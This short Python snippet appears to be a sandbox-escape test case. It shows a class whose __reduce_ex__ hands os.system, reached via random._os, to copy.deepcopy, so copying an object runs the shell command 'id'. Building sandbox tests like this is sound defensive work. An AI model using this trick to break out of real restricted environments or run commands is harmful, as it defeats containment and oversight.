# class: copy calls __reduce_ex__, which names any callable and its arguments
import copy, random
class X:
    def __reduce_ex__(self, proto):
        return (random._os.system, ("id",))
print("ESCAPED", copy.deepcopy(X()))
